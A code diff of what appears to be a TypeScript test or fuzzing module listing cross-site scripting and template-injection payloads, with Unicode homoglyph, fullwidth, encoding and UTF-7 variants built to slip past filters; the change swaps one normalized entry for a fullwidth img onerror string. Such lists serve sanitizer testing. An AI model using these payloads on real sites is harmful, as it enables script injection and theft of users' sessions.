@@ -96,7 +96,7 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
   ],
   'templates of others, letters that are no letters': [
     `{{constructor.constructor('${RUN}')()}}`, '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', `[[${RUN}]]`, `<p v-html="${RUN}" ng-init="${RUN}" x-init="${RUN}" hx-on:load="${RUN}" data-bind="html:${RUN}">x</p>`,
-    `＜script＞${RUN}＜/script＞`, `‹img src=x onerror=${RUN}›`, `\u202e>)1(trela=rorreno x=crs gmi<`, `<ımg src=x onerror=${RUN}>`, `<ſcript>${RUN}</ſcript>`, `<İmg src=x onerror=${RUN}>`, `<img src=x onerror\u00a0=${RUN}>`, `<img\u2000src=x onerror=${RUN}>`, `\ufffd<script>${RUN}</script>`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${RUN}\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\ufeff<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`.normalize('NFKD'),
+    `＜script＞${RUN}＜/script＞`, `‹img src=x onerror=${RUN}›`, `\u202e>)1(trela=rorreno x=crs gmi<`, `<ımg src=x onerror=${RUN}>`, `<ſcript>${RUN}</ſcript>`, `<İmg src=x onerror=${RUN}>`, `<img src=x onerror\u00a0=${RUN}>`, `<img\u2000src=x onerror=${RUN}>`, `\ufffd<script>${RUN}</script>`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${RUN}\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\ufeff<script>${RUN}</script>`, `＜img src=x onerror=${RUN}＞`,
   ],
 };
 
